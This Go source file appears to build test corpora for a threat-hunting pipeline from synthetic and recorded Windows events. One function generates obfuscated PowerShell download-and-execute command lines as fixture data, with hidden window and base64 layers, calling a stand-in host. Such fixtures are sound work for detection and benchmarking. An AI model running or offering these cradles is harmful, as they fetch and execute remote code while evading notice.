package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/huntd/huntd/pipeline"
	"github.com/huntd/huntd/pipeline/story"
)

// A corpus is some records as lines, of JSON if not said otherwise.
type corpus struct {
	name  string
	lines [][]byte
}

func (c corpus) bytes() (n int) {
	for _, line := range c.lines {
		n += len(line)
	}
	return n
}

// part is the beginning of a corpus, for what is slow.
func (c corpus) part(most int) corpus {
	size := 0
	for i, line := range c.lines {
		if size += len(line); size > most {
			c.lines = c.lines[:max(i, 1)]
			break
		}
	}
	return c
}

// toldStory is events of Windows out of a made-up day.
func toldStory(most int) (corpus, error) {
	s, err := story.New(1, story.Options{End: time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		return corpus{}, err
	}
	c, size := corpus{name: "story"}, 0
	for e := range s.Events() {
		if e.Sourcetype != "XmlWinEventLog" {
			continue
		}
		line := e.AppendJSON(nil)
		if size += len(line); size > most {
			break
		}
		c.lines = append(c.lines, line)
	}
	return c, nil
}

// recordedEvents is real events of Windows of 2.9 kB and more in the mean,
// empty where the recordings are absent.
func recordedEvents(most int) (corpus, error) {
	c, size := corpus{name: "real"}, 0
	root, err := os.Getwd()
	if err != nil {
		return c, err
	}
	for ; !exists(filepath.Join(root, "go.mod")) && filepath.Dir(root) != root; root = filepath.Dir(root) {
	}
	paths, err := filepath.Glob(filepath.Join(root, "..", "shared", "data", "demo", "0[1-4]-*.ndjson.gz"))
	if err != nil {
		return c, err
	}
	for _, path := range paths {
		text, err := readAll(path)
		if err != nil {
			return c, err
		}
		for line := range bytes.Lines(text) {
			if size += len(line); size > most {
				return c, nil
			}
			c.lines = append(c.lines, bytes.TrimSpace(line))
		}
	}
	return c, nil
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

func readAll(path string) ([]byte, error) {
	r, err := pipeline.OpenRecords(path)
	if err != nil {
		return nil, err
	}
	defer r.Close()
	var text bytes.Buffer
	_, err = text.ReadFrom(r)
	return text.Bytes(), err
}

// encodedCommands is command lines with a script of UTF-16 in base64, one in
// four with a layer more; they are no JSON.
func encodedCommands() corpus {
	c := corpus{name: "made"}
	for i := range 64 {
		script := fmt.Sprintf("$c=New-Object Net.WebClient;IEX $c.DownloadString('http://198.51.100.%d/%d.ps1');", i, i*7919)
		script += strings.Repeat(fmt.Sprintf("$v%d=[Environment]::GetEnvironmentVariable('TEMP');", i), i%16*2)
		if i%4 == 0 {
			script = "$x='" + base64.StdEncoding.EncodeToString([]byte(script)) + "';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))"
		}
		var wide []byte
		for _, u := range utf16.Encode([]rune(script)) {
			wide = append(wide, byte(u), byte(u>>8))
		}
		c.lines = append(c.lines, []byte("powershell.exe -NoP -NonI -W Hidden -enc "+base64.StdEncoding.EncodeToString(wide)))
	}
	return c
}
